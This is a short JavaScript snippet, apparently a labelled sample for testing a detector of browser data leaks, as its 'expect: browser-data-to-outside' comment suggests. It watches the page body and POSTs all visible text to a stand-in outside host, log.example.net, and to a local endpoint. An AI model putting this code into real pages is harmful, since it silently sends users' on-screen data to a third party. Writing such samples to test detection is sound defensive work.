// What the screen shows leaves for an outside service.
new MutationObserver(([first]) => {
  const text = first.target.innerText;
  fetch('https://log.example.net/keep', { method: 'POST', body: text }); // expect: browser-data-to-outside
  fetch('/k/v1/record.json', { method: 'POST', body: text });
}).observe(document.body, { childList: true });
